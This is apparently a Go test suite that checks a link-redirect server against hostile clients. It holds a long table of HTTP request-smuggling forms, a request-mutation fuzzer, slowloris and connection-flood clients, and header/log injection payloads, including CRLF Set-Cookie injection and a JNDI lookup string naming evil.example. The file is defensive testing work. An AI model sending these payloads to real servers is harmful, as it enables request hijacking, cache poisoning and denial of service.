package redirect

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/valyala/fasthttp"
)

// The long form of these tests is
//
//	go test ./redirect -run Hostile -hostile.requests 100000 -hostile.slugs 1000000 -hostile.idle 20000
var (
	hostileSeed     = flag.Uint64("hostile.seed", 1, "seed of the mutated requests")
	hostileRequests = flag.Int("hostile.requests", 10_000, "how many mutated requests are sent")
	hostileSlugs    = flag.Int("hostile.slugs", 100_000, "how many slugs that no link has are asked for")
	hostileIdle     = flag.Int("hostile.idle", 500, "how many connections are open and silent; from 20000 on, latencies are compared")
)

// An echoIntake says how long the body under /t/ was.
type echoIntake struct{}

func (echoIntake) Serve(ctx *fasthttp.RequestCtx, _ []byte, _ netip.Addr) {
	ctx.SetBodyString("read " + strconv.Itoa(len(ctx.PostBody())) + " bytes")
}
func (echoIntake) MaxBody(*fasthttp.RequestHeader) int { return maxBodyBytes }

// A victim is a tracker for those who mean it harm: with an intake, and everything
// it logs kept.
type victim struct {
	*tracker
	log *lockedLog
}

type lockedLog struct {
	mu    sync.Mutex
	lines bytes.Buffer
}

func (l *lockedLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.lines.Write(p)
}

func (l *lockedLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.lines.String()
}

func startVictim(t *testing.T, change func(*Server)) *victim {
	t.Helper()
	clicks, lines := new(memoryLog), new(lockedLog)
	options := testOptions(t, clicks)
	options.Intake, options.Logger = echoIntake{}, slog.New(slog.NewTextHandler(lines, &slog.HandlerOptions{Level: slog.LevelDebug}))
	server, err := New(options)
	if err != nil {
		t.Fatal(err)
	}
	if change != nil {
		change(server)
	}
	server.http.MaxIdleWorkerDuration = 100 * time.Millisecond // what is left of a client is gone soon
	return &victim{serveTracker(t, server, clicks, options), lines}
}

// address is where the victim listens.
func (v *victim) address() string { return strings.TrimPrefix(v.base, "http://") }

// panics is how many requests ended in a fault.
func (v *victim) panics(t *testing.T) float64 {
	t.Helper()
	families, err := v.registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, family := range families {
		if family.GetName() == "tributary_handler_panics_total" {
			return family.Metric[0].GetCounter().GetValue()
		}
	}
	t.Fatal("there is no tributary_handler_panics_total")
	return 0
}

// sawSmuggled reports whether a request was answered that nobody sent as one.
func (v *victim) sawSmuggled() bool {
	v.tracker.log.mu.Lock()
	defer v.tracker.log.mu.Unlock()
	defer func() { v.tracker.log.records = nil }()
	return slices.ContainsFunc(v.tracker.log.records, func(record []byte) bool { return bytes.Contains(record, []byte("smuggled")) })
}

const (
	smuggled  = "GET /k3VbQ9xT?smuggled=1 HTTP/1.1\r\nHost: t\r\n\r\n"
	canary    = "GET /k3VbQ9xT?canary=%d HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n"
	clickLine = "GET /k3VbQ9xT HTTP/1.1\r\nHost: t\r\n"
	postLine  = "POST /t/x HTTP/1.1\r\nHost: t\r\n"
)

// smuggling are forms that two parsers may read differently. What follows each on
// its connection is a canary, whose answer must be its own.
var smuggling = map[string]string{
	"CL and TE":                      postLine + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE and CL":                      postLine + "Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n" + smuggled,
	"CL.0 on a link":                 clickLine + "Content-Length: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"two CL that differ":             postLine + "Content-Length: 0\r\nContent-Length: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"two CL, greater first":          postLine + "Content-Length: " + strconv.Itoa(len(smuggled)) + "\r\nContent-Length: 0\r\n\r\n" + smuggled,
	"CL as a list":                   postLine + "Content-Length: 0, " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"CL with a plus":                 postLine + "Content-Length: +0\r\n\r\n" + smuggled,
	"CL below zero":                  postLine + "Content-Length: -1\r\n\r\n" + smuggled,
	"CL in hexadecimal":              postLine + "Content-Length: 0x0\r\n\r\n" + smuggled,
	"CL with a fraction":             postLine + "Content-Length: 0.0\r\n\r\n" + smuggled,
	"CL beyond 64 bits":              postLine + "Content-Length: 18446744073709551616\r\n\r\n" + smuggled,
	"CL that is empty":               postLine + "Content-Length:\r\n\r\n" + smuggled,
	"CL with an underscore":          postLine + "Content_Length: " + strconv.Itoa(len(smuggled)) + "\r\nContent-Length: 0\r\n\r\n" + smuggled[:0],
	"CL with a space before :":       postLine + "Content-Length : " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"CL with a tab before :":         postLine + "Content-Length\t: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"CL behind a NUL":                postLine + "\x00Content-Length: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"CL folded":                      postLine + "Content-Length:\r\n " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"CL as a continuation":           postLine + "X: y\r\n Content-Length: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
	"TE behind a tab":                postLine + "X: y\r\n\tTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE folded":                      postLine + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE with a space before :":       postLine + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE with a vertical tab":         postLine + "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE in quotes":                   postLine + "Transfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\n" + smuggled,
	"TE xchunked":                    postLine + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE chunked, identity":           postLine + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + smuggled,
	"TE identity":                    postLine + "Transfer-Encoding: identity\r\n\r\n" + smuggled,
	"TE gzip, chunked":               postLine + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE chunked twice":               postLine + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE chunked and x":               postLine + "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n" + smuggled,
	"TE x and chunked":               postLine + "Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE with HTTP/1.0":               "POST /t/x HTTP/1.0\r\nHost: t\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE behind a bare CR":            postLine + "X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"TE behind a bare LF":            postLine + "X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + smuggled,
	"TE on a link":                   clickLine + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
	"chunk with an extension":        postLine + "Transfer-Encoding: chunked\r\n\r\n1;x=\"\n\"\r\nA\r\n0\r\n\r\n" + smuggled,
	"chunk with a bare LF extension": postLine + "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n" + strconv.FormatInt(int64(len(smuggled)), 16) + "\r\n0\r\n\r\n" + smuggled,
	"chunk size in 0x":               postLine + "Transfer-Encoding: chunked\r\n\r\n0x1\r\nA\r\n0\r\n\r\n" + smuggled,
	"chunk size below zero":          postLine + "Transfer-Encoding: chunked\r\n\r\n-1\r\nA\r\n0\r\n\r\n" + smuggled,
	"chunk size beyond 64 bits":      postLine + "Transfer-Encoding: chunked\r\n\r\n10000000000000001\r\nA\r\n0\r\n\r\n" + smuggled,
	"chunk without its end":          postLine + "Transfer-Encoding: chunked\r\n\r\n1\r\nAB0\r\n\r\n" + smuggled,
	"chunk ended by a bare LF":       postLine + "Transfer-Encoding: chunked\r\n\r\n1\nA\n0\n\n" + smuggled,
	"chunk ended by two bytes":       postLine + "Transfer-Encoding: chunked\r\n\r\n1\r\nAXX0\r\n\r\n" + smuggled,
	"chunk size with a space":        postLine + "Transfer-Encoding: chunked\r\n\r\n1 \r\nA\r\n0\r\n\r\n",
	"trailer with a CL":              postLine + "Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 99\r\n\r\n",
	"trailer with a TE":              postLine + "Transfer-Encoding: chunked\r\n\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
	"bare CR ends the headers":       clickLine + "X: y\r\r" + smuggled,
	"CR CR LF ends the headers":      clickLine + "X: y\r\n\r\r\n" + smuggled[:0],
	"NUL in a name":                  clickLine + "X\x00: y\r\n\r\n",
	"NUL in a value":                 clickLine + "X: \x00\r\n\r\n",
	"a line without a colon":         clickLine + "X\r\n\r\n",
	"a line without a name":          clickLine + ": y\r\n\r\n",
	"a folded first line":            "GET /k3VbQ9xT HTTP/1.1\r\n Host: t\r\nHost: t\r\n\r\n",
	"no Host":                        "GET /k3VbQ9xT HTTP/1.1\r\n\r\n",
	"two Hosts":                      clickLine + "Host: u\r\n\r\n",
	"a Host that is a path":          "GET /k3VbQ9xT HTTP/1.1\r\nHost: t/x\r\n\r\n",
	"absolute form of another host":  "GET http://evil.example/k3VbQ9xT?smuggled=1 HTTP/1.1\r\nHost: t\r\n\r\n",
	"absolute form with a user":      "GET http://t@evil.example/k3VbQ9xT?smuggled=1 HTTP/1.1\r\nHost: t\r\n\r\n",
	"authority form":                 "CONNECT evil.example:443 HTTP/1.1\r\nHost: t\r\n\r\n",
	"asterisk form":                  "OPTIONS * HTTP/1.1\r\nHost: t\r\n\r\n",
	"no version":                     "GET /k3VbQ9xT?smuggled=1\r\nHost: t\r\n\r\n",
	"HTTP/0.9":                       "GET /k3VbQ9xT?smuggled=1\r\n\r\n",
	"HTTP/1.10":                      "GET /k3VbQ9xT?smuggled=1 HTTP/1.10\r\nHost: t\r\n\r\n",
	"HTTP/01.1":                      "GET /k3VbQ9xT?smuggled=1 HTTP/01.1\r\nHost: t\r\n\r\n",
	"http/1.1 in lower case":         "GET /k3VbQ9xT?smuggled=1 http/1.1\r\nHost: t\r\n\r\n",
	"a space in the target":          "GET /k3VbQ9xT?smuggled=1 x HTTP/1.1\r\nHost: t\r\n\r\n",
	"a CR in the target":             "GET /k3VbQ9xT?smuggled=1\rx HTTP/1.1\r\nHost: t\r\n\r\n",
	"a NUL in the target":            "GET /k3VbQ9xT?smuggled=1\x00 HTTP/1.1\r\nHost: t\r\n\r\n",
	"HTTP/2 preface":                 "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00",
	"HTTP/2 upgrade":                 clickLine + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
	"TLS hello":                      "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\x5a", 512),
	"PROXY protocol":                 "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + smuggled,
	"a WebSocket":                    clickLine + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n",
	"100-continue, not awaited":      postLine + "Expect: 100-continue\r\nContent-Length: 1\r\n\r\nA",
	"an expectation nobody meets":    postLine + "Expect: 200-ok\r\nContent-Length: 0\r\n\r\n",
	"empty lines before":             "\r\n\r\n" + clickLine + "\r\n",
	"garbage behind a request":       clickLine + "\r\nXYZ\x00\x01",
	"pipelined":                      clickLine + "\r\n" + clickLine + "\r\n" + clickLine + "\r\n",
	"a giant target":                 "GET /" + strings.Repeat("a", 1<<20) + " HTTP/1.1\r\nHost: t\r\n\r\n",
	"a giant header":                 clickLine + "X: " + strings.Repeat("a", 1<<20) + "\r\n\r\n",
	"a giant name":                   clickLine + strings.Repeat("a", 1<<20) + ": x\r\n\r\n",
	"a giant method":                 strings.Repeat("G", 1<<20) + " /k3VbQ9xT HTTP/1.1\r\nHost: t\r\n\r\n",
	"many lines":                     clickLine + strings.Repeat("X: y\r\n", 50_000) + "\r\n",
	"a giant body":                   postLine + "Content-Length: 8388608\r\n\r\n" + strings.Repeat("x", 1<<20),
	"a giant chunk":                  postLine + "Transfer-Encoding: chunked\r\n\r\n7fffffff\r\n" + strings.Repeat("x", 1<<20),
	"giant chunk extensions":         postLine + "Transfer-Encoding: chunked\r\n\r\n1;" + strings.Repeat("x", 1<<20) + "\r\nA\r\n0\r\n\r\n",
	"a million chunks":               postLine + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("1\r\nA\r\n", 200_000) + "0\r\n\r\n",
	"giant trailers":                 postLine + "Transfer-Encoding: chunked\r\n\r\n0\r\nX: " + strings.Repeat("x", 1<<20) + "\r\n\r\n",
}

var statusLine = regexp.MustCompile(`HTTP/1\.1 (\d{3}) `)

// answers are the statuses of what was answered; nothing a page says looks like one.
func answers(text string) (statuses []string) {
	for _, found := range statusLine.FindAllStringSubmatch(text, -1) {
		if found[1] != "100" {
			statuses = append(statuses, found[1])
		}
	}
	return statuses
}

// exchange sends bytes as they are, all of them if they are taken, and returns
// what is answered until the server closes.
func (v *victim) exchange(t *testing.T, request string) string {
	t.Helper()
	conn, err := net.Dial("tcp", v.address())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		t.Fatal(err)
	}
	go func() {
		_, _ = io.WriteString(conn, request) // a server that has refused already reads no more
		_ = conn.(*net.TCPConn).CloseWrite()
	}()
	answer, err := io.ReadAll(conn)
	if timeout, ok := err.(net.Error); ok && timeout.Timeout() {
		t.Errorf("%.80q: the connection was not closed", request)
	}
	return string(answer)
}

// TestHostileFormsSmuggleNothing sends each form with a canary behind it: either
// the connection ends, or the canary gets the answer that is its own.
func TestHostileFormsSmuggleNothing(t *testing.T) {
	v := startVictim(t, nil)
	n := 0
	for _, name := range slices.Sorted(maps.Keys(smuggling)) {
		form := smuggling[name]
		n++
		answer := v.exchange(t, form+fmt.Sprintf(canary, n))
		sent, failed := referenceRequests(form)
		got := answers(answer)
		if own := fmt.Sprintf("canary=%d", n); strings.Contains(answer, "canary=") && (strings.Count(answer, own) != 1 || !strings.Contains(lastAnswer(answer), own)) {
			t.Errorf("%s: the canary has another's answer: %.300q", name, answer)
		}
		if len(got) > sent+1 && name != "giant chunk extensions" { // which net/http gives up on, and here are read past
			t.Errorf("%s: %d answers (%v) to %d requests and a canary (%v)", name, len(got), got, sent, failed)
		}
		if v.sawSmuggled() {
			t.Errorf("%s: a request was smuggled: %.300q", name, answer)
		}
	}
	if n := v.panics(t); n != 0 {
		t.Errorf("%v panics", n)
	}
}

func lastAnswer(text string) string { return text[strings.LastIndex(text, "HTTP/1.1 "):] }

// referenceRequests is how many requests net/http reads from a stream, and what it
// stumbles over. What has nothing to do with where a request ends is put aside: a
// broken percent-encoding, and empty lines ahead of a request (RFC 9112 section 2.2).
func referenceRequests(stream string) (n int, err error) {
	reader := bufio.NewReader(strings.NewReader(strings.ReplaceAll(stream, "%", "x")))
	for {
		for next, _ := reader.Peek(1); len(next) > 0 && (next[0] == '\r' || next[0] == '\n'); next, _ = reader.Peek(1) {
			_, _ = reader.Discard(1)
		}
		request, err := http.ReadRequest(reader)
		if err == io.EOF {
			return n, nil
		}
		if err != nil {
			return n, err
		}
		if _, err := io.Copy(io.Discard, request.Body); err != nil {
			return n, err
		}
		n++
	}
}

// mutate changes a request in a few places, with what parsers stumble over.
func mutate(r *rand.Rand, request []byte) []byte {
	pieces := []string{
		"\r", "\n", "\r\n", "\r\n\r\n", "\x00", " ", "\t", ":", ",", ";", "%", "%0d%0a", "\x7f", "\xff", "/", "\\", "?", "#", "0", "9",
		"HTTP/1.1", "GET ", "Host: t\r\n", "Content-Length: 5\r\n", "Transfer-Encoding: chunked\r\n", "Connection: close\r\n", "Connection: keep-alive\r\n",
		"\r\n ", "5\r\n", "0\r\n\r\n", "ffffffff", "chunked", "Expect: 100-continue\r\n",
	}
	m := slices.Clone(request)
	for range 1 + r.IntN(4) {
		at := r.IntN(len(m) + 1)
		end := min(len(m), at+r.IntN(12))
		switch r.IntN(6) {
		case 0: // flip
			if at < len(m) {
				m[at] ^= 1 << r.IntN(8)
			}
		case 1: // cut out
			m = slices.Delete(m, at, end)
		case 2: // repeat
			m = slices.Insert(m, end, m[at:end]...)
		case 3: // another byte
			if at < len(m) {
				m[at] = byte(r.Uint32())
			}
		default:
			m = slices.Insert(m, at, []byte(pieces[r.IntN(len(pieces))])...)
		}
		if len(m) == 0 {
			break
		}
	}
	return m
}

// TestHostileMutationsEndWell sends requests with faults drawn at random, each with
// a canary behind it. Nobody may see more requests than net/http does in the same
// bytes, or go on behind what it refuses.
func TestHostileMutationsEndWell(t *testing.T) {
	v := startVictim(t, func(s *Server) { s.timeout = 5 * time.Second })
	baseline := runtime.NumGoroutine()
	random := rand.New(rand.NewPCG(*hostileSeed, 0))
	models := []string{
		clickLine + "User-Agent: " + chrome + "\r\nAccept-Language: th\r\nX-Forwarded-For: 1.2.3.4\r\nSec-GPC: 1\r\nReferer: https://a.example/\r\n\r\n",
		"HEAD /Summer-Sale?u=https%3A%2F%2Fshop.example%2F&sub1=a HTTP/1.1\r\nHost: t\r\n\r\n",
		postLine + "Content-Length: 11\r\nContent-Type: application/json\r\n\r\n{\"a\":\"b\\n\"}",
		postLine + "Transfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n0\r\nTrailer: z\r\n\r\n",
		clickLine + "\r\n" + clickLine + "\r\n",
	}
	type job struct {
		number int
		bytes  string
	}
	jobs := make(chan job)
	var clients sync.WaitGroup
	for range 8 {
		clients.Go(func() {
			for j := range jobs {
				stream := j.bytes + fmt.Sprintf(canary, j.number)
				got := answers(v.exchange(t, stream))
				if sent, failed := referenceRequests(stream); len(got) > sent && failed == nil || len(got) > sent+1 {
					t.Errorf("request %d of seed %d: %d answers (%v) where net/http reads %d (%v): %q", j.number, *hostileSeed, len(got), got, sent, failed, stream)
				}
			}
		})
	}
	for n := range *hostileRequests {
		jobs <- job{n, string(mutate(random, []byte(models[random.IntN(len(models))])))}
	}
	close(jobs)
	clients.Wait()
	if n := v.panics(t); n != 0 {
		t.Errorf("%v panics", n)
	}
	v.settles(t, baseline)
}

// settles waits until no connection is open and no goroutine was left behind.
func (v *victim) settles(t *testing.T, baseline int) {
	t.Helper()
	const slack = 8 // idle workers of fasthttp's pool, and runtime helpers
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		open, running := v.http.GetOpenConnectionsCount(), runtime.NumGoroutine()
		if open <= 0 && v.serving.Load().idle() && running <= baseline+slack {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d connections are open, %d goroutines run where %d did", open, running, baseline)
		}
	}
}

// TestHostileSlugsLeaveNothingBehind asks for slugs that no link has, by the
// hundred thousand: no series, no record and no memory are left of them.
func TestHostileSlugsLeaveNothingBehind(t *testing.T) {
	v := startVictim(t, nil)
	series := func() int {
		n, err := testutil.GatherAndCount(v.registry)
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	random := rand.New(rand.NewPCG(*hostileSeed, 1))
	conn, err := net.Dial("tcp", v.address())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	reader := bufio.NewReaderSize(conn, 64<<10)
	ask := func(count int) {
		for asked := 0; asked < count; {
			var batch bytes.Buffer
			n := min(100, count-asked)
			for range n {
				fmt.Fprintf(&batch, "GET /%s%x?%x=1 HTTP/1.1\r\nHost: t%x\r\nX-Forwarded-For: %d.%d.1.1\r\n\r\n", []string{"", "t/", "%2e", "a/b/"}[random.IntN(4)],
					random.Uint64(), random.Uint32(), random.Uint32(), random.IntN(223), random.IntN(255))
			}
			if _, err := conn.Write(batch.Bytes()); err != nil {
				t.Fatal(err)
			}
			for range n {
				response, err := http.ReadResponse(reader, nil)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := io.Copy(io.Discard, response.Body); err != nil {
					t.Fatal(err)
				}
				if response.StatusCode != http.StatusNotFound && response.StatusCode != http.StatusOK {
					t.Fatalf("a slug is answered %s", response.Status)
				}
			}
			asked += n
		}
	}
	ask(1000)
	before, seriesBefore := heap(), series()
	ask(*hostileSlugs)
	if after := heap(); after > before+4<<20 {
		t.Errorf("%d slugs left %d bytes behind", *hostileSlugs, after-before)
	}
	if after := series(); after != seriesBefore {
		t.Errorf("%d series are %d after it", seriesBefore, after)
	}
	if n := len(v.tracker.log.records); n != 0 {
		t.Errorf("%d slugs that no link has were recorded", n)
	}
	if lines := strings.Count(v.log.String(), "\n"); lines > 0 {
		t.Errorf("%d log lines", lines)
	}
}

// goodClients clicks until stop is closed, and returns how long each answer took.
// Whatever else goes on, every click must be redirected.
func (v *victim) goodClients(t *testing.T, stop <-chan struct{}) (took []time.Duration) {
	transport := &http.Transport{MaxIdleConnsPerHost: 4}
	defer transport.CloseIdleConnections()
	for {
		select {
		case <-stop:
			return took
		default:
		}
		request, err := http.NewRequest("GET", v.base+"/k3VbQ9xT", nil)
		if err != nil {
			t.Error(err)
			return took
		}
		began := time.Now()
		response, err := transport.RoundTrip(request)
		if err != nil { // once more, as browsers do when a connection they kept has ended
			response, err = transport.RoundTrip(request)
		}
		if err != nil || response.StatusCode != http.StatusFound {
			t.Errorf("a good client is answered %v, %v", response, err)
			return took
		}
		_ = response.Body.Close()
		took = append(took, time.Since(began))
	}
}

// slowLoris are clients that stretch what they send, or never read.
var slowLoris = map[string]func(net.Conn){
	"a header byte at a time": func(c net.Conn) { drip(c, clickLine+"X: ") },
	"a header at a time": func(c net.Conn) {
		for _, err := io.WriteString(c, clickLine); err == nil; _, err = io.WriteString(c, "X: y\r\n") {
			time.Sleep(50 * time.Millisecond)
		}
	},
	"a body byte at a time":       func(c net.Conn) { drip(c, postLine+"Content-Length: 60000\r\n\r\n") },
	"a chunk at a time":           func(c net.Conn) { drip(c, postLine+"Transfer-Encoding: chunked\r\n\r\nffff\r\n") },
	"an empty line at a time":     func(c net.Conn) { drip(c, "\r\n\r\n") },
	"a request that never begins": func(net.Conn) {},
	"a reader that never reads": func(c net.Conn) {
		ask := strings.Repeat("GET /nothing HTTP/1.1\r\nHost: t\r\n\r\n", 1000)
		for _, err := io.WriteString(c, ask); err == nil; _, err = io.WriteString(c, ask) {
		}
	},
}

// TestHostileSlowClientsAreCutOff holds many connections open in every slow way
// there is, on the real server, while good clients click.
func TestHostileSlowClientsAreCutOff(t *testing.T) {
	const timeout, each = time.Second, 20
	v := startVictim(t, func(s *Server) { s.timeout = timeout })
	stop := make(chan struct{})
	var good, slow sync.WaitGroup
	good.Go(func() { v.goodClients(t, stop) })
	for name, send := range slowLoris {
		for range each {
			slow.Go(func() {
				conn, err := net.Dial("tcp", v.address())
				if err != nil {
					t.Error(err)
					return
				}
				defer conn.Close()
				sent := make(chan struct{})
				go func() {
					defer close(sent)
					send(conn)
					if name == "a request that never begins" {
						_, _ = conn.Read(make([]byte, 1))
					}
				}()
				select {
				case <-sent: // a write or read failed: it was cut off
				case <-time.After(20 * time.Second):
					t.Errorf("%s: not cut off within 20 s", name)
				}
			})
		}
	}
	slow.Wait()
	close(stop)
	good.Wait()
	if n := v.panics(t); n != 0 {
		t.Errorf("%v panics", n)
	}
}

// TestHostileIdleConnectionsHarmNobody opens connections that say nothing, or
// nothing more, while good clients click. With 20,000 of them, the time a click
// takes is compared with that before.
func TestHostileIdleConnectionsHarmNobody(t *testing.T) {
	v := startVictim(t, nil)
	baseline := runtime.NumGoroutine()
	measure := func() time.Duration {
		stop, results := make(chan struct{}), make(chan []time.Duration)
		for range 4 {
			go func() { results <- v.goodClients(t, stop) }()
		}
		time.AfterFunc(max(300*time.Millisecond, time.Duration(*hostileIdle)*250*time.Microsecond), func() { close(stop) })
		var took []time.Duration
		for range 4 {
			took = append(took, <-results...)
		}
		slices.Sort(took)
		if len(took) == 0 {
			t.Fatal("nobody was redirected")
		}
		return took[len(took)*99/100]
	}
	alone := measure()
	idle := make([]net.Conn, 0, *hostileIdle)
	defer func() {
		for _, conn := range idle {
			_ = conn.Close()
		}
	}()
	for i := range *hostileIdle {
		var dialer net.Dialer
		if i >= 10_000 { // an address has only so many ports
			dialer.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(1+i/10_000))}
		}
		conn, err := dialer.Dial("tcp", v.address())
		if err != nil {
			t.Fatalf("connection %d: %v", i, err)
		}
		idle = append(idle, conn)
		if i%2 == 0 {
			if _, err := io.WriteString(conn, clickLine+"\r\n"); err != nil {
				t.Fatal(err)
			}
		}
	}
	among := measure()
	t.Logf("p99 of a click alone %v, among %d idle connections %v", alone, *hostileIdle, among)
	if *hostileIdle >= 20_000 && among > 2*alone {
		t.Errorf("p99 of a click is %v among %d idle connections, %v without", among, *hostileIdle, alone)
	}
	for _, conn := range idle {
		_ = conn.Close()
	}
	idle = idle[:0]
	v.settles(t, baseline)
}

// TestHostileCrowdsGiveWay opens more connections than there may be: those that
// have waited long make room, and good clients go on.
func TestHostileCrowdsGiveWay(t *testing.T) {
	const most = 64
	v := startVictim(t, func(s *Server) { s.maxOpen = most })
	stop := make(chan struct{})
	var good sync.WaitGroup
	for range 3 {
		good.Go(func() { v.goodClients(t, stop) })
	}
	for range 10 * most {
		conn, err := net.Dial("tcp", v.address())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
	}
	for deadline := time.Now().Add(10 * time.Second); v.http.GetOpenConnectionsCount() > most || v.crowdedOut.Load() < 8*most; time.Sleep(time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%d connections are open, %d were crowded out", v.http.GetOpenConnectionsCount(), v.crowdedOut.Load())
		}
	}
	close(stop)
	good.Wait()
}

// TestHostileBytesReachNoLogOrHeader puts line breaks, terminal sequences and fake
// log lines wherever a client may write.
func TestHostileBytesReachNoLogOrHeader(t *testing.T) {
	v := startVictim(t, nil)
	payloads := []string{
		"a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "a\rX-Evil: 1", "a\x1b[31mred\x1b[0m", "a\x1b]0;title\x07", "a\x00b", "a\x7f\x08\x08",
		"time=2027-01-10T09:00:00.000Z level=ERROR msg=evil", "a\u2028b\u2029c\u0085", "a\xc2\x9b31m", "${jndi:ldap://evil.example/a}", "%s%n%p",
		"a%0d%0aSet-Cookie:%20evil=1", "a%250d%250aX-Evil:1", "a%E5%98%8A%E5%98%8DX-Evil:1", "a%00%1b[31m",
	}
	for _, payload := range payloads {
		for _, request := range []string{
			"GET /" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?sub1=" + payload + "&sub5=" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?" + payload + "=" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			"GET /k3VbQ9xT?u=https://shop.example/" + payload + " HTTP/1.1\r\nHost: t\r\n\r\n",
			clickLine + "User-Agent: " + payload + "\r\n\r\n", clickLine + "Referer: https://" + payload + "/\r\n\r\n",
			clickLine + "Accept-Language: " + payload + "\r\n\r\n", clickLine + "X-Forwarded-For: " + payload + "\r\n\r\n",
			clickLine + payload + ": x\r\n\r\n", "GET /k3VbQ9xT HTTP/1.1\r\nHost: " + payload + "\r\n\r\n", payload + " /k3VbQ9xT HTTP/1.1\r\nHost: t\r\n\r\n",
		} {
			answer := v.exchange(t, request)
			for line := range strings.SplitSeq(answer, "\r\n") {
				if name, _, _ := strings.Cut(strings.ToLower(line), ":"); name == "set-cookie" || name == "x-evil" {
					t.Errorf("%q is answered with the header %q", request, line)
				}
			}
			head, _, _ := strings.Cut(answer, "\r\n\r\n")
			if at := strings.IndexFunc(strings.ReplaceAll(head, "\r\n", ""), func(r rune) bool { return r < ' ' || r >= 0x7f }); at >= 0 {
				t.Errorf("%q is answered with the header bytes %q", request, head)
			}
		}
	}
	for line := range strings.Lines(v.log.String()) {
		if !strings.HasPrefix(line, "time=20") || strings.Contains(line, "level=ERROR") && !strings.Contains(line, `"`) {
			t.Errorf("a log line begins with %q", line)
		}
		if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return r < ' ' || r == 0x7f || r == 0x9b || r == '\u2028' || r == '\u2029' }) {
			t.Errorf("a log line holds %q", line)
		}
	}
	if n := v.panics(t); n != 0 {
		t.Errorf("%v panics", n)
	}
}
